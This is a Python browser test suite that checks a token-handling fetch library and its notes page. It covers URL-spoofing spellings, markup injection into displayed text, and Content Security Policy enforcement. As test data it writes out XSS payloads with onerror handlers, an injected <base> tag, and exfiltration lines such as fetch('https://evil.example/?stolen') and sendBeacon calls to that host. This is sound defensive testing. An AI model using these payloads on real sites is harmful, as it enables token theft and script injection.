"""46, 48, 49: where a token may go, what becomes of markup in a text, and a policy that has nothing to refuse."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from mock_server.testing import Server
from tests.browser.fixtures import OpenPage
from tests.browser.harness.chromium import Chromium, Page
from tests.browser.harness.notes_page import NotesPage

# -- 46: every way to write a URL that is not the allowed origin --

SPY = """
    import asyncio, itertools, json, random
    import freshfetch, js
    from freshfetch.browser import FetchTransport, PagePresence, TabChannel, WebLock, WebTokenStore
    from freshfetch.memory import SystemClock

    async def nothing():
        return b""

    class Spy(FetchTransport):
        "Sends to the auth server only; of the rest it notes what would leave, as the browser's own Request has it."

        async def send(self, request):
            if "/api/auth/" in request.target.url:
                return await super().send(request)
            asked = js.Request.new(request.target.url)
            left.append((asked.url, request.headers.get("authorization", "")))
            return freshfetch.Response(status=204, url=asked.url, read=nothing)

    left = []
    session = freshfetch.Session(
        freshfetch.JsonAuthServer(), transport=Spy(), store=WebTokenStore.local("default"), lock=WebLock(),
        channel=TabChannel("default"), clock=SystemClock(), presence=PagePresence(),
        heartbeat=freshfetch.HeartbeatPolicy(url=None),
    )
    await session.sign_in("ada", "lovelace")
    token = json.loads(js.localStorage.getItem("freshfetch:default"))["access_token"]

    async def judge(url):
        "Fetch; return what is wrong about it, and whether it was sent with a token, without one, or not at all."
        left.clear()
        try:
            await session.fetch(url)
        except freshfetch.InvalidRequestError:
            return ("sent though refused" if left else ""), "refused"
        (sent_to, authorization), = left
        # The browser's own word on what the caller wrote, and on what would leave.
        meant = js.Request.new(url).url.partition("#")[0]
        home = js.URL.new(sent_to).protocol == js.location.protocol and js.URL.new(sent_to).host == js.location.host
        if sent_to != meant:
            return "led elsewhere than the browser would have gone", ""
        if token in sent_to or authorization not in ("", f"Bearer {token}"):
            return "a token in the wrong place", ""
        if bool(authorization) != home:
            return "a token for a stranger" if authorization else "no token for the page's own origin", ""
        return "", "with" if authorization else "without"

    async def judge_all(urls):
        wrong, counts = [], {}
        for url in urls:
            complaint, kind = await judge(url)
            counts[kind] = counts.get(kind, 0) + 1
            if complaint:
                wrong.append([complaint, url])
        return [wrong[:20], counts]
"""

COMBINED = """
    port = int(js.location.port)
    schemes = ("http:", "https:", "HtTp:", "", "ws:", "ftp:", "\\thttp:", "ht\\ntp:", "http&colon;", "\\x00http:")
    slashes = ("//", "/", "", "///", "\\\\\\\\", "/\\\\", "\\\\/", "/\\t/", "\\n//", "%2f%2f")
    users = ("", "", "", "ada@", "ada:lovelace@", f"127.0.0.1:{port}@", "@", ":@", "%40", "ada%00@")
    hosts = (
        "127.0.0.1", "127.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.0.0.1.", "127.0.0.1..",
        "\\uff11\\uff12\\uff17.0.0.1", "127\\u30020\\u30020\\u30021", "127%2e0%2e0%2e1", "127.0.0.1%2eevil.example",
        "127.0.0.1.evil.example",
        "127.0.0.1-evil.example", "evil.example", "EVIL.EXAMPLE", "localhost", "LOCALHOST", "loc\\talhost",
        "localhost.",
        "[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0.0.0.0", "0", "127.0.0.2",
        "evil\\u3002example",
        "\\uff45\\uff56\\uff49\\uff4c.example", "xn--evl-qma.example", "\\u0435vil.example",
        "127.0.0.1%00.evil.example", "127.0.0.1\\x00.evil.example",
        "evil.example#127.0.0.1", "evil.example?127.0.0.1", "evil.example\\\\@127.0.0.1", "evil.example/@127.0.0.1",
        "127.0.0.1\\u200b", "127.0.0.1\\u00ad", "127.0.0.1 ", "", "\\u0663.example",
    )
    ports = (
        f":{port}", f":{port}", "", f":0{port}", f":{port + 1}", ":80", ":443", ":", f":{port}@evil.example",
        f":{port}.evil.example", f":{port}\\\\@evil.example", f":%3{port}", f":{port + 65536}",
    )
    tails = (
        "/api/data", "", "?x=1", "#x", "/..//evil.example/", "/%2e%2e//evil.example", "\\\\..\\\\data", "/\\x00", " ",
    )
    parts = (schemes, slashes, users, hosts, ports, tails)
    plain = ("http:", "//", "", "127.0.0.1", f":{port}", "/api/data")
    urls = {
        "".join(each)
        for changed in itertools.combinations(range(6), 2)
        for each in itertools.product(*(part if at in changed else [plain[at]] for at, part in enumerate(parts)))
    }
    chance = random.Random(46)
    urls |= {"".join(chance.choice(part) for part in parts) for _ in range(2000)}
    await judge_all(sorted(urls))
"""

STRANGERS = """
    own = js.location.origin
    await judge_all([
        "javascript:alert(1)", "data:text/plain,x", "data:text/html,<script>alert(1)</script>", "about:blank",
        "about:srcdoc",
        f"blob:{own}/9b6d8c5e", "blob:https://evil.example/x", f"filesystem:{own}/temporary/x", "file:///etc/passwd",
        f"file://{js.location.host}/api/data", f"view-source:{own}/", "mailto:ada@evil.example", "tel:1", "urn:x", "x:",
        f"ws://{js.location.host}/", f"wss://{js.location.host}/", f"ftp://{js.location.host}/",
        f"https://{js.location.host}/",
        f"chrome-extension://{js.location.host}/", f"intent://{js.location.host}/", f"HTTPS:{js.location.host}",
        "//evil.example", "/\\\\evil.example", "\\\\\\\\evil.example", "///evil.example",
        "https:evil.example",
        "/\\n/evil.example", "\\t//evil.example", " //evil.example", "\\x01//evil.example",
        "//evil.example\\\\@127.0.0.1",
    ])
"""

FRIENDS = """
    await judge_all([
        "", "?", "#", "api/data", "/api/data", "./api/data", "../../api/data", "/api/../api/data", "/api//data",
        "/API/data",
        js.location.origin, js.location.origin.upper(), f"http:{js.location.origin[5:]}", f"//{js.location.host}/",
        f"\\\\\\\\{js.location.host}\\\\api", f" {js.location.origin}/ ", f"http:\\n//{js.location.host}",
        "http:/api/data",
        "https%3a//evil.example", "/https://evil.example/", "?https://evil.example", "/@evil.example", "evil.example",
        "http:evil.example",
        f"http://127.1:{js.location.port}/", f"http://2130706433:{js.location.port}/", "%2f%2fevil.example",
    ])
"""


def test_46_however_a_url_is_written_the_token_goes_to_the_allowed_origin_alone(page: Page) -> None:
    """Thousands of spellings, two parts or all of them odd: what the browser would send home, and no other, has it."""
    page.run(SPY)
    wrong, counts = page.run(COMBINED)
    assert wrong == []
    assert counts["with"] > 100
    assert counts["without"] > 1000
    assert counts["refused"] > 1000


def test_46_no_stranger_gets_the_token(page: Page) -> None:
    """Other schemes and scheme-relative tricks: each is sent as it is or refused, none with a token."""
    page.run(SPY)
    wrong, counts = page.run(STRANGERS)
    assert wrong == []
    assert "with" not in counts


def test_46_whatever_leads_home_gets_the_token(page: Page) -> None:
    """Odd spellings of the page's own origin, and paths that only look like another one."""
    page.run(SPY)
    wrong, counts = page.run(FRIENDS)
    assert wrong == []
    assert counts.keys() == {"with"}


def test_46_the_auth_servers_routes_are_known_by_the_url_that_leaves(page: Page) -> None:
    """Dot segments, a query and the case of the host make no other route; a slash more or another case do."""
    owned = page.run("""
        import js
        from freshfetch import JsonAuthServer
        from freshfetch.browser import FetchTransport

        transport, auth_server = FetchTransport(), JsonAuthServer("/api/auth")
        urls = (
            "/api/auth/refresh", "/api/auth/../auth/refresh", "/api/./auth/%2e/refresh", "../api/auth/login?x#y",
            js.location.origin.upper() + "/api/auth/logout", "/api\\\\auth\\\\refresh",
            "/api/auth/refresh/", "/api//auth/refresh", "/API/auth/refresh", "/api/auth/refreshed", "/api/auth",
        )
        [auth_server.owns(transport.resolve(url).url, transport) for url in urls]
    """)
    assert owned == [True] * 6 + [False] * 5


def test_46_an_allowed_origin_is_exactly_that(page: Page) -> None:
    """Of an origin in ``origins`` no sub-domain, parent, other port, other scheme or look-alike gets the token."""
    page.run(SPY)
    authorized = page.run("""
        session = freshfetch.Session(
            freshfetch.JsonAuthServer(), transport=Spy(), store=WebTokenStore.local("default"), lock=WebLock(),
            channel=TabChannel("default"), clock=SystemClock(), presence=PagePresence(),
            origins=["https://API.example:443/some/path?x#y"],
        )
        urls = (
            "https://api.example", "https://api.example:443/", "HTTPS:\\\\\\\\API.EXAMPLE\\\\x",
            "https://api.example:8443/", "http://api.example/", "http://api.example:443/", "https://example/",
            "https://x.api.example/", "https://api.example.", "https://api.example.evil.example/",
            "https://apiexample/",
            "https://\\u0430pi.example/", "https://api.example@evil.example/", "wss://api.example/",
            "blob:https://api.example/x", "//api.example/",
        )
        authorized = []
        for url in urls:
            left.clear()
            await asyncio.gather(session.fetch(url), return_exceptions=True) if "@" not in url else None
            authorized += [url for _, authorization in left if authorization]
        authorized
    """)
    assert authorized == ["https://api.example", "https://api.example:443/", "HTTPS:\\\\API.EXAMPLE\\x"]


def test_46_markup_that_moves_relative_urls_does_not_move_the_tokens(
    new_browser: Callable[[], Chromium], server: Server
) -> None:
    """A ``<base>`` that somebody got into a page without a policy: requests and refreshes go home, as before."""
    browser = new_browser()
    browser.driver.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    page = browser.open(server.url)
    page.run("""
        import js, freshfetch
        from freshfetch.browser import connect
        before = connect("/api/auth")
        await before.sign_in("ada", "lovelace")
    """)
    page.script("document.head.innerHTML += '<base href=\"https://evil.example/\">'")
    sent = page.run("""
        session = connect("/api/auth")
        await session.refresh()
        await before.refresh()
        [js.document.baseURI, (await session.fetch("/api/data")).status, (await before.fetch("/api/data")).status]
    """)
    assert sent == ["https://evil.example/", 200, 200]


def test_46_a_base_of_the_same_origin_is_heeded(new_browser: Callable[[], Chromium], server: Server) -> None:
    """Relative URLs mean what they mean to ``fetch``."""
    browser = new_browser()
    browser.driver.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    page = browser.open(server.url)
    page.script("document.head.innerHTML += '<base href=\"/some/where/\">'")
    resolved = page.run("from freshfetch.browser import FetchTransport; FetchTransport().resolve('x').url")
    assert resolved == f"{server.url}/some/where/x"


def test_47_what_the_auth_server_is_sent_follows_nothing_and_tells_nothing(page: Page) -> None:
    """Sign-in, refresh and sign-out as the browser has them: no redirect, cookie, cache, keepalive or referrer."""
    page.script("""
        window.asked = [];
        const original = window.fetch;
        window.fetch = (request) => { window.asked.push(request); return original(request); };
    """)
    page.run("""
        from freshfetch.browser import connect
        session = connect("/api/auth")
        await session.sign_in("ada", "lovelace")
        await session.refresh()
        await session.sign_out()
    """)
    asked = page.script("""
        return window.asked.map((request) => [new URL(request.url).pathname, request.method, request.redirect,
            request.credentials, request.cache, request.keepalive, request.referrerPolicy]);
    """)
    how = ["POST", "error", "omit", "no-store", False, "no-referrer"]
    assert asked == [[f"/api/auth/{route}", *how] for route in ("login", "refresh", "logout")]


# -- 48: markup in any text that is shown --

MARKUP = "<img class=injected src=x onerror=hacked=1><b class=injected>&lt;b"
SHORT_MARKUP = "<b class=injected>x<img src=x onerror=hacked=1>"


def injected(page: NotesPage) -> Any:
    """Return what became of the markup: elements made of it, and whether its handlers ran."""
    return page.script("""
        const everywhere = [document, ...[...document.querySelectorAll("template")].map((each) => each.content)];
        const made = everywhere.flatMap((root) => [...root.querySelectorAll(".injected, [onerror], img[src=x]")]);
        return [made.map((element) => element.outerHTML), typeof window.hacked];
    """)


NOTHING = [[], "undefined"]


@pytest.fixture
def open_unguarded(new_browser: Callable[[], Chromium], server: Server) -> OpenPage:
    """Windows with the page as it would be without its policy: markup that got in would run."""
    browser = new_browser()

    def open_one() -> NotesPage:
        if browser.driver.current_url != "data:,":
            browser.driver.switch_to.new_window("window")
        browser.driver.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
        return NotesPage(browser, server.url + "/").open()

    return open_one


def sign_in_as(page: NotesPage, server: Server, name: str) -> None:
    """Sign ada in, but let the server call her by another name."""
    with httpx.Client(trust_env=False) as client:
        granted = client.post(f"{server.url}/api/auth/login", json={"username": "ada", "password": "lovelace"}).json()
    server.fault(path="/api/auth/login", kind="status", status=200, body={**granted, "user": name}, times=1)
    page.type("#username", "ada")
    page.type("#password", "lovelace")
    page.press("#sign-in-button")
    page.until(lambda: page.seen("#who") == name, "the name")


def test_48_markup_in_a_name_is_shown_as_text(open_unguarded: OpenPage, server: Server) -> None:
    """Who is signed in, the event, the notice in another tab, whose draft waits: the name as it is written."""
    first, second = open_unguarded(), open_unguarded()
    first.sign_in("grace", "hopper")
    second.until(lambda: second.seen("#who") == "grace", "grace in the second window")
    second.press("#sign-out")
    sign_in_as(second, server, MARKUP)
    first.until(lambda: first.seen("#who") == MARKUP, "the name in the first window")
    assert first.seen("#fact-who") == MARKUP
    assert MARKUP in first.seen("#notices")
    first.until(lambda: f"{MARKUP} signed in" in first.seen("#events"), "the event")
    first.type("#note-text", "a draft")
    first.press("#sign-out")
    first.until(lambda: MARKUP in first.seen("#sign-in-why"), "whose draft waits")
    second.until(lambda: second.find("#sign-in-form").is_displayed(), "the form in the second window")
    assert [injected(first), injected(second)] == [NOTHING, NOTHING]


def test_48_markup_in_a_note_is_shown_as_text(open_unguarded: OpenPage, server: Server) -> None:
    """Text and id of a note, from the person or the server; deleted too, when its first line is shown."""
    page = open_unguarded().sign_in()
    page.add_note(MARKUP)
    page.wait_for_note(MARKUP)
    page.press("#notes li [data-do=delete]")
    page.until(lambda: page.seen("#notes .note-gone") == MARKUP, "what was deleted")
    assert MARKUP[:30] in str(page.script("return document.querySelector('#notes .note-name').textContent"))
    stranger = {"id": MARKUP, "text": f"server {MARKUP}", "createdAt": 1, "updatedAt": 1}
    server.fault(path="/api/notes", method="GET", kind="status", status=200, body={"notes": [stranger]})
    page.driver.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    page.open()
    page.wait_for_note(f"server {MARKUP}")
    assert injected(page) == NOTHING


def test_48_markup_in_an_error_is_shown_as_text_or_not_at_all(open_unguarded: OpenPage, server: Server) -> None:
    """What the auth server and the API say of a failure: at sign-in, at a refresh, at saving, at a check."""
    page = open_unguarded()
    words = {"error": MARKUP, "error_description": MARKUP}
    headers = {"WWW-Authenticate": f'Bearer error="{MARKUP}"', "Retry-After": MARKUP}
    for status in (400, 401, 500):
        server.fault(path="/api/auth/login", kind="status", status=status, body=words, headers=headers, times=1)
        page.type("#username", "ada")
        page.type("#password", "lovelace")
        page.press("#sign-in-button")
        page.until(lambda: page.seen("#sign-in-message"), "the message")
    page.sign_in()
    for status in (400, 401, 503):
        server.fault(path="/api/auth/refresh", kind="status", status=status, body=words, headers=headers, times=1)
        page.press("#refresh-now")
        page.until(lambda: "did not work" in page.seen("#control-result"), "the result")
    server.fault(path="/api/notes/*", kind="status", status=400, body=words, headers=headers)
    page.add_note("refused")
    page.wait_for_note("refused", "failed")
    server.fault(path="/api/heartbeat", kind="status", status=418, body=MARKUP, headers=headers)
    page.press("#check-now")
    page.until(lambda: "418" in page.seen("#control-result"), "the result of the check")
    assert injected(page) == NOTHING


def test_48_markup_in_a_word_from_another_tab_is_shown_as_text(open_unguarded: OpenPage) -> None:
    """A forged hint whose reason is markup, with the record gone: the session is over, and the reason no element."""
    page, forger = open_unguarded().sign_in(), open_unguarded()
    forger.script(
        """
        localStorage.removeItem("freshfetch:default");
        for (const kind of ["expired", "signed_out", "changed", arguments[0]])
            for (const message of [{kind, reason: arguments[0]}, JSON.stringify({kind, reason: arguments[0]})])
                new BroadcastChannel("freshfetch:default").postMessage(message);
        """,
        SHORT_MARKUP,
    )
    page.until(lambda: page.state != "signed-in", "the end of the session")
    page.until(lambda: page.find("#sign-in-form").is_displayed(), "the form")
    assert injected(page) == NOTHING


def test_48_markup_in_storage_is_shown_as_text(open_unguarded: OpenPage) -> None:
    """Drafts whose owner and text are markup, left in the storage by whoever could write there."""
    page = open_unguarded()
    draft = json.dumps({"new": MARKUP, "notes": {MARKUP: MARKUP}, "deleted": {MARKUP: MARKUP}})
    page.script("localStorage.setItem(`freshfetch.page.draft:gone:${arguments[0]}`, arguments[1])", MARKUP, draft)
    page.driver.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    page.open()
    page.until(lambda: MARKUP in page.seen("#sign-in-why"), "whose drafts wait")
    assert injected(page) == NOTHING


# -- 49: no violation of the policy, and a policy that holds --


def test_49_no_csp_violation_in_a_whole_day(open_page: OpenPage, server: Server) -> None:
    """Sign in, write, edit, delete, press every button, expire, fail, sign in again, another tab, reload: silence."""
    page = open_page()
    page.type("#username", "ada")
    page.type("#password", "wrong")
    page.press("#sign-in-button")
    page.until(lambda: page.seen("#sign-in-message"), "the message")
    page.press("[data-username=ada]")
    page.press("#sign-in-button")
    page.until(lambda: page.state == "signed-in", "the session")
    page.add_note("first")
    page.wait_for_note("first")
    page.type("#notes li textarea", "second")
    page.wait_for_note("second")
    page.press("#notes li [data-do=delete]")
    page.press("#notes li [data-do=undo]")
    page.wait_for_note("second")
    for button in ("#refresh-now", "#check-now", "#expire-token"):
        page.press(button)
        page.until(lambda: page.seen("#control-result"), f"the result of {button}")
    page.press("#burst")
    page.until(lambda: "answered" in page.seen("#burst-result"), "the burst")
    page.press("#show-requests")
    page.press("#clear-events")
    page.type("#fail-seconds", "1")
    page.press("#fail-server")
    page.add_note("in the dark")
    page.wait_for_note("in the dark")
    other = open_page()
    other.until(lambda: other.seen("#who") == "ada", "ada in the other window")
    page.press("#revoke-session")
    page.until(lambda: "over" in page.seen("#control-result"), "the result")
    page.add_note("waits")
    page.until(lambda: page.find("#sign-in-dialog").is_displayed(), "the dialog")
    page.press("#ask-later")
    page.press("#notices button")
    page.type("#password", "lovelace")
    page.press("#sign-in-button")
    page.wait_for_note("waits")
    other.until(lambda: other.state == "signed-in", "the other window")
    other.open()
    other.press("#sign-out")
    page.until(lambda: page.find("#sign-in-form").is_displayed(), "the form")
    page.open().sign_in()
    assert [page.violations(), other.violations()] == [[], []]
    assert page.browser.refused_by_policy() == []


ATTACKS = {
    "an inline script": (
        "require-trusted-types-for",
        "const s = document.createElement('script'); s.append('window.hacked = 1'); document.body.append(s)",
    ),
    "eval": ("require-trusted-types-for", "try { (0, eval)('window.hacked = 1') } catch {}"),
    "Function": ("require-trusted-types-for", "try { Function('window.hacked = 1')() } catch {}"),
    "a timer made of text": ("require-trusted-types-for", "try { setTimeout('window.hacked = 1') } catch {}"),
    "markup": (
        "require-trusted-types-for",
        "try { document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">' } catch {}",
    ),
    "an inline handler": (
        "require-trusted-types-for",
        "document.body.setAttribute('onclick', 'x'); document.body.click()",
    ),
    "a foreign script": (
        "require-trusted-types-for",
        "try { document.createElement('script').src = 'https://evil.example/x.js' } catch {}",
    ),
    "a foreign module": ("script-src-elem", "import('https://evil.example/x.mjs').catch(() => {})"),
    "a foreign connection": ("connect-src", "fetch('https://evil.example/?stolen').catch(() => {})"),
    "a beacon": ("connect-src", "navigator.sendBeacon('https://evil.example/', 'stolen')"),
    "a web socket": ("connect-src", "try { new WebSocket('wss://evil.example/') } catch {}"),
    "an image": ("img-src", "new Image().src = 'https://evil.example/?stolen'"),
    "a data: image": ("img-src", "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='"),
    "a style": (
        "style-src-elem",
        "const s = document.createElement('style'); s.append('*{}'); document.head.append(s)",
    ),
    "a frame": (
        "frame-src",
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
    ),
    "a base": (
        "base-uri",
        "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
    ),
    "a policy of its own": ("trusted-types", "try { trustedTypes.createPolicy('x', {}) } catch {}"),
    "the page's policy once more": ("trusted-types", "try { trustedTypes.createPolicy('freshfetch', {}) } catch {}"),
    "a worker": ("require-trusted-types-for", "try { new Worker('app/static/boot.js') } catch {}"),
    "a service worker": (
        "require-trusted-types-for",
        "try { navigator.serviceWorker.register('service-worker.js').catch(() => {}) } catch {}",
    ),
}


def test_49_the_policy_really_holds(new_browser: Callable[[], Chromium], server: Server) -> None:
    """Everything that injected script would try first is refused, and each refusal is heard."""
    browser = new_browser()
    page = NotesPage(browser, server.url + "/").open()
    # In a task of its own: a driver's script may do what the page's own script may not.
    heard = {
        name: page.script(
            f"""
            return new Promise((resolve) => {{
                const hear = ({{effectiveDirective}}) => resolve(effectiveDirective);
                document.addEventListener("securitypolicyviolation", hear, {{once: true}});
                setTimeout(() => {{ {attack} }});
                setTimeout(resolve, 5000, "nothing");
            }})
            """
        )
        for name, (_, attack) in ATTACKS.items()
    }
    assert heard == {name: directive for name, (directive, _) in ATTACKS.items()}
    assert page.script("return [typeof window.hacked, document.baseURI]") == ["undefined", page.url]
    assert len(page.violations()) >= len(ATTACKS)
    assert browser.refused_by_policy()
